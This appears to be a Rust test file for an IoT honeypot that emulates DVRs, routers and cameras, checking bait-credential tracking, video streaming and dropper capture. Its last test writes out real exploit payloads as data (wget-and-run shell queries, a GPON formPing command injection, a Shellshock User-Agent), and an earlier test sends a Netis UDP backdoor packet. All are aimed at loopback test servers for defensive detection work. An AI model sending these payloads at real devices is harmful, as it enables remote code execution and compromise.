//! The HTTP device services with real clients: curl fetches the DVR's
//! leaked config and reuses its bait credentials over Basic auth, Telnet
//! and the 53413/UDP backdoor (-> honeytoken.used linking the sessions);
//! the Basic-auth camera takes its five credentials and refuses others;
//! ffprobe and ffmpeg read the MJPEG stream and the snapshot; a viewing of
//! N seconds is recorded as N seconds; malformed requests get the device's
//! 400 page and an event.

mod common;
use common::*;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

fn curl(args: &[&str]) -> (String, String) {
    require("curl");
    let out = Command::new("curl")
        .args([
            "-s",
            "-S",
            "--max-time",
            "10",
            "-o",
            "-",
            "-w",
            "\n%{http_code}",
        ])
        .args(args)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", ""));
    (body.to_string(), code.to_string())
}

fn ini(text: &str, section: &str, key: &str) -> String {
    let mut in_section = false;
    for line in text.lines() {
        if line.starts_with('[') {
            in_section = line == format!("[{section}]");
        } else if in_section {
            if let Some(v) = line.strip_prefix(&format!("{key}=")) {
                return v.to_string();
            }
        }
    }
    panic!("no {section}.{key} in {text}")
}

#[test]
fn dvr_config_baits_are_caught_when_reused() {
    let (dvr, router) = (free_port(), free_port());
    let netis = {
        let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    };
    let hp = Honeypot::start(
        "http-dvr",
        "dvr-xiongmai",
        &format!(
            "{}{}{}",
            listen("http", dvr, "dvr"),
            listen("http", router, "router-web"),
            listen("netis", netis, "router-netis")
        ),
    );
    // The leak, without authentication, as uc-httpd sends it.
    let (cfg, code) = curl(&[&format!("http://127.0.0.1:{dvr}/DVR.cfg")]);
    assert_eq!(code, "200");
    let user = ini(&cfg, "User", "User1");
    let pass = ini(&cfg, "User", "Password1");
    let pppoe = ini(&cfg, "PPPoE", "Password");
    assert_eq!(user, "admin");
    assert!(pass.len() >= 8, "{cfg}");
    for key in ["[FTP]", "[Email]", "[DNS]", "SmtpServer="] {
        assert!(cfg.contains(key), "{key} missing: {cfg}");
    }
    // The same file under the other names scanners ask for.
    for path in ["/dvr.cfg", "/config/DVR.cfg"] {
        let (other, code) = curl(&[&format!("http://127.0.0.1:{dvr}{path}")]);
        assert_eq!(
            (code.as_str(), other == cfg),
            ("200", true),
            "{path}: {other}"
        );
    }
    let (ftp_user, ftp_pass) = (ini(&cfg, "FTP", "UserName"), ini(&cfg, "FTP", "Password"));
    let (mail_user, mail_pass) = (
        ini(&cfg, "Email", "UserName"),
        ini(&cfg, "Email", "Password"),
    );
    // Reused over Basic auth on another device...
    let (_, code) = curl(&[
        "-u",
        &format!("{user}:{pass}"),
        &format!("http://127.0.0.1:{router}/"),
    ]);
    assert_eq!(code, "401", "the router does not know the DVR's password");
    // ... over Telnet ...
    let mut bot = Bot::connect(hp.addr);
    bot.login_ok(&user, &pass);
    // ... the FTP account in a command ...
    bot.cmd(&format!(
        "ftpget -u {ftp_user} -p {ftp_pass} 198.51.100.7 dvr.bin"
    ));
    bot.send("exit");
    // ... the mail account over Basic auth ...
    let (_, code) = curl(&[
        "-u",
        &format!("{mail_user}:{mail_pass}"),
        &format!("http://127.0.0.1:{router}/"),
    ]);
    assert_eq!(code, "401");
    // ... and on the backdoor (the PPPoE password in a command).
    let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    sock.send_to(
        format!("AA\0\0AAAA{pppoe}\0").as_bytes(),
        ("127.0.0.1", netis),
    )
    .unwrap();
    let mut buf = [0u8; 512];
    let _ = sock.recv_from(&mut buf);
    // The honeypot's own list names the same baits.
    let listed = hp.cli(&["honeytokens"]);
    assert!(
        listed.contains(&pass) && listed.contains(&pppoe),
        "{listed}"
    );
    let mut hp = hp;
    hp.stop();

    let db = hp.db();
    // Three fetches of the config; an alarm names the latest leak to the
    // address that used the bait.
    let leaks = column(&db, "SELECT session FROM events WHERE eventid = 'iotpot.http.request' AND json_extract(data, '$.path') IN ('/DVR.cfg', '/dvr.cfg', '/config/DVR.cfg') ORDER BY id");
    assert_eq!(leaks.len(), 3);
    let leak_session = &leaks[2..];
    let used = column(&db, "SELECT json_extract(data, '$.via') || ' ' || json_extract(data, '$.token') || ' ' || json_extract(data, '$.leaked_session') || ' ' || json_extract(data, '$.leaked_src') || ' ' || session FROM events WHERE eventid = 'iotpot.honeytoken.used' ORDER BY id");
    let expected = [
        "http-basic dvr",
        "telnet-login dvr",
        "telnet-command ftp",
        "http-basic mail",
        "netis pppoe",
    ];
    assert_eq!(used.len(), expected.len(), "{used:?}");
    for (u, via) in used.iter().zip(expected) {
        assert!(u.starts_with(via), "{u} vs {via}");
        assert!(u.contains(&format!("{} 127.0.0.1", leak_session[0])), "{u}");
        assert!(
            !leaks.iter().any(|l| u.ends_with(l.as_str())),
            "a different session used it: {u}"
        );
    }
    let req = column(&db, &format!("SELECT json_extract(data, '$.method') || ' ' || json_extract(data, '$.status') || ' ' || json_extract(data, '$.username') FROM events WHERE eventid = 'iotpot.http.request' AND json_extract(data, '$.dst_port') = {router}"));
    assert_eq!(
        req,
        [format!("GET 401 {user}"), format!("GET 401 {mail_user}")]
    );
    let ua = column(&db, "SELECT json_extract(data, '$.user_agent') FROM events WHERE eventid = 'iotpot.http.request' LIMIT 1");
    assert!(ua[0].starts_with("curl/"), "{ua:?}");
}

#[test]
fn cameras_stream_video_behind_their_logins() {
    require("ffmpeg");
    require("ffprobe");
    let (basic, open) = (free_port(), free_port());
    let mut hp = Honeypot::start(
        "http-cam",
        "",
        &format!(
            "{}{}",
            listen("http", basic, "camera-basic"),
            listen("http", open, "camera-open")
        ),
    );
    let base = format!("http://127.0.0.1:{basic}");
    for cred in [
        "admin:admin",
        "admin:12345",
        "root:root",
        "root:12345",
        "admin:password",
    ] {
        let (_, code) = curl(&["-u", cred, &format!("{base}/")]);
        assert_eq!(code, "200", "{cred}");
    }
    let (page, code) = curl(&["-u", "admin:wrong", &format!("{base}/")]);
    assert_eq!(code, "401");
    assert!(page.contains("BB-SP104W"));
    // The index links the stream the way the camera does: an <img>.
    let (index, _) = curl(&["-u", "admin:admin", &format!("{base}/")]);
    let src = index
        .split("<IMG SRC=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .expect("an <img> in the index")
        .replace("&amp;", "&");
    let stream = format!("http://admin:admin@127.0.0.1:{basic}{src}");
    let probe = |url: &str| {
        run_ok(Command::new("ffprobe").args([
            "-v",
            "error",
            "-show_entries",
            "stream=codec_name,width,height",
            "-of",
            "csv=p=0",
            url,
        ]))
        .trim()
        .to_string()
    };
    assert_eq!(probe(&stream), "mjpeg,640,480");
    assert_eq!(
        probe(&format!(
            "http://admin:admin@127.0.0.1:{basic}/SnapshotJPEG?Resolution=640x480"
        )),
        "mjpeg,640,480"
    );
    // The open camera needs no login.
    assert_eq!(
        probe(&format!("http://127.0.0.1:{open}/axis-cgi/mjpg/video.cgi")),
        "mjpeg,640,480"
    );
    let snap = TempDir::new("snap");
    let jpg = snap.0.join("s.jpg");
    let ok = Command::new("curl")
        .args(["-s", "-f", "-o"])
        .arg(&jpg)
        .arg(format!("http://127.0.0.1:{open}/axis-cgi/jpg/image.cgi"))
        .status()
        .unwrap();
    assert!(ok.success());
    let png = snap.0.join("s.png");
    let ok = Command::new("ffmpeg")
        .args(["-v", "error", "-y", "-i"])
        .arg(&jpg)
        .arg(&png)
        .status()
        .unwrap();
    assert!(ok.success(), "ffmpeg decodes the snapshot");
    // Served as the profile's page says (`type = "image/jpeg"`).
    let head = Command::new("curl")
        .args(["-s", "-o", "/dev/null", "-w", "%{content_type}"])
        .arg(format!("http://127.0.0.1:{open}/axis-cgi/jpg/image.cgi"))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&head.stdout), "image/jpeg");

    // A viewer that watches for 3 s: ffmpeg decodes the live stream and
    // prints an MD5 per decoded frame, then stops cleanly on `q`.
    let started = Instant::now();
    let mut viewer = Command::new("ffmpeg")
        .args([
            "-v",
            "error",
            "-i",
            &format!("http://127.0.0.1:{open}/axis-cgi/mjpg/video.cgi"),
            "-f",
            "framemd5",
            "-",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_secs(3));
    viewer.stdin.as_mut().unwrap().write_all(b"q").unwrap();
    let out = viewer.wait_with_output().unwrap();
    let watched = started.elapsed().as_secs_f64();
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "ffmpeg: {} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let frames: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| l.rsplit(',').next().unwrap().trim().to_string())
        .collect();
    // 5 frames a second (the first arrives once ffmpeg has connected).
    assert!(
        (10..=18).contains(&frames.len()),
        "{} frames in {watched:.1} s",
        frames.len()
    );
    let distinct: std::collections::BTreeSet<&String> = frames.iter().collect();
    assert_eq!(
        distinct.len(),
        frames.len(),
        "live video: every frame differs"
    );

    // The credentials shown in the picture, read off it (tesseract, as a
    // person zooming on the note would) and typed into the camera's login.
    // Like a person watching, it reads several frames (each has its own
    // sensor noise) and goes by what most of them show.
    require("tesseract");
    run_ok(
        Command::new("ffmpeg")
            .args(["-v", "error", "-y", "-i"])
            .arg(format!("http://127.0.0.1:{open}/axis-cgi/mjpg/video.cgi"))
            .args(["-frames:v", "5", "-vf", "crop=iw/2:ih/2:iw/2:0,format=gray"])
            .arg(snap.0.join("frame%d.png")),
    );
    let mut readings: std::collections::BTreeMap<String, usize> = Default::default();
    for i in 1..=5 {
        let read = run_ok(
            Command::new("tesseract")
                .arg(snap.0.join(format!("frame{i}.png")))
                .args(["-", "--psm", "6"]),
        );
        let field = |name: &str| {
            read.lines()
                .find_map(|l| l.trim().strip_prefix(name))
                .map(|v| v.trim().to_string())
                .unwrap_or_default()
        };
        *readings
            .entry(format!("{}:{}", field("user:"), field("pass:")))
            .or_default() += 1;
    }
    let (cred, seen) = readings
        .iter()
        .max_by_key(|(_, n)| **n)
        .map(|(c, n)| (c.clone(), *n))
        .unwrap();
    assert!(seen >= 3, "no reading of the note holds: {readings:?}");
    let (_, code) = curl(&["-u", &cred, &format!("{base}/")]);
    assert_eq!(
        code, "200",
        "the camera accepts the credentials it shows ({readings:?})"
    );
    // Malformed: a TLS hello to a plain HTTP camera.
    let mut s = TcpStream::connect(("127.0.0.1", open)).unwrap();
    s.write_all(b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03")
        .unwrap();
    let mut reply = Vec::new();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let _ = s.read_to_end(&mut reply);
    assert!(
        reply.starts_with(b"HTTP/1.0 400 Bad Request\r\n"),
        "{:?}",
        String::from_utf8_lossy(&reply)
    );
    hp.stop();

    let db = hp.db();
    // The 3-s viewing is the longest of the stream's viewings (ffprobe and
    // the one-frame grab are short ones).
    let views = column(&db, &format!("SELECT CAST(json_extract(data, '$.duration') AS TEXT) FROM events WHERE eventid = 'iotpot.video.stopped' AND json_extract(data, '$.dst_port') = {open} ORDER BY json_extract(data, '$.duration') DESC"));
    let longest: f64 = views[0].parse().unwrap();
    assert!(
        (longest - watched).abs() < 1.0,
        "recorded {longest} s for {watched} s of viewing"
    );
    let starts = column(
        &db,
        "SELECT count(*) FROM events WHERE eventid = 'iotpot.video.started'",
    );
    let stops = column(
        &db,
        "SELECT count(*) FROM events WHERE eventid = 'iotpot.video.stopped'",
    );
    assert_eq!(starts, stops, "every start has a stop");
    let human = column(&db, "SELECT json_extract(data, '$.source') || ' ' || json_extract(data, '$.human_watching') FROM events WHERE eventid = 'iotpot.honeytoken.used'");
    assert_eq!(human, ["video 1"]);
    let bad = column(&db, "SELECT json_extract(data, '$.status') || ' ' || substr(json_extract(data, '$.payload'), 1, 6) FROM events WHERE eventid = 'iotpot.http.malformed'");
    assert_eq!(bad, ["400 160301"]);
    let unauthorized = column(&db, "SELECT count(*) FROM events WHERE eventid = 'iotpot.http.request' AND json_extract(data, '$.status') = 401 AND json_extract(data, '$.password') = 'wrong'");
    assert_eq!(unauthorized, ["1"]);
}

/// The droppers exploits carry, sent with curl as published exploits
/// send them (the command in a bare query, in a percent-encoded form field,
/// in a header with `${IFS}` for spaces): each is an `http.suspicious`
/// event, its URL is fetched from a loopback server and the file lands in
/// `samples/`. An ordinary request is not suspicious.
#[test]
fn droppers_in_web_requests_are_fetched() {
    let files = TempDir::new("http-droppers");
    let bodies: [(&str, &[u8]); 3] = [
        ("jaws.sh", b"#!/bin/sh\necho jaws\n"),
        ("gpon.sh", b"#!/bin/sh\necho gpon\n"),
        ("ua.sh", b"#!/bin/sh\necho ua\n"),
    ];
    for (name, body) in bodies {
        std::fs::write(files.0.join(name), body).unwrap();
    }
    let web = free_port();
    let _server = http_server(&files.0, web);
    let dvr = free_port();
    let hp = Honeypot::start(
        "http-droppers",
        "dvr-xiongmai",
        &format!(
            "{}[downloader]\nallow = [\"127.0.0.1/32\"]\n",
            listen("http", dvr, "dvr")
        ),
    );
    let base = format!("http://127.0.0.1:{dvr}");
    let (_, code) = curl(&[&format!(
        "{base}/shell?cd+/tmp;wget+http://127.0.0.1:{web}/jaws.sh;sh+/tmp/jaws.sh"
    )]);
    assert_eq!(code, "404", "the dvr profile has no such page");
    curl(&[
        "-d",
        &format!("target_addr=%3Bwget%20http%3A%2F%2F127.0.0.1%3A{web}%2Fgpon.sh%20-O%20-%3E%20%2Ftmp%2Fg%3Bsh%20%2Ftmp%2Fg&waninf=1_INTERNET_R_VID_"),
        &format!("{base}/boaform/admin/formPing"),
    ]);
    curl(&[
        "-H",
        &format!("User-Agent: () {{ :; }}; cd${{IFS}}/tmp;curl${{IFS}}-O${{IFS}}http://127.0.0.1:{web}/ua.sh"),
        &format!("{base}/"),
    ]);
    curl(&[&format!("{base}/index.html?page=wgetting-started&q=curl")]);
    // Each file, fetched beside the answers.
    let samples = hp.data().join("samples");
    for (name, body) in bodies {
        let path = samples.join(hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body)));
        let deadline = Instant::now() + Duration::from_secs(15);
        while !path.exists() {
            assert!(
                Instant::now() < deadline,
                "{name} never reached samples/: {}",
                hp.stderr.lock().unwrap()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    // Their events (the store writes in batches).
    let deadline = Instant::now() + Duration::from_secs(10);
    let events = loop {
        let events = hp.jsonl();
        let done = events
            .iter()
            .filter(|e| e["eventid"] == "iotpot.download.success")
            .count();
        if done >= 3 || Instant::now() > deadline {
            break events;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let suspicious: Vec<_> = events
        .iter()
        .filter(|e| e["eventid"] == "iotpot.http.suspicious")
        .collect();
    let by_place: Vec<(String, String)> = suspicious
        .iter()
        .map(|e| {
            (
                e["location"].as_str().unwrap().to_string(),
                e["urls"][0].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert_eq!(
        by_place,
        [
            (
                "query".to_string(),
                format!("http://127.0.0.1:{web}/jaws.sh")
            ),
            (
                "form:target_addr".into(),
                format!("http://127.0.0.1:{web}/gpon.sh")
            ),
            (
                "header:User-Agent".into(),
                format!("http://127.0.0.1:{web}/ua.sh")
            ),
        ],
        "{suspicious:#?}"
    );
    assert_eq!(
        suspicious[2]["command"],
        format!("cd /tmp\ncurl -O http://127.0.0.1:{web}/ua.sh")
    );
    let fetched = events
        .iter()
        .filter(|e| e["eventid"] == "iotpot.download.success")
        .count();
    assert_eq!(fetched, 3);
}
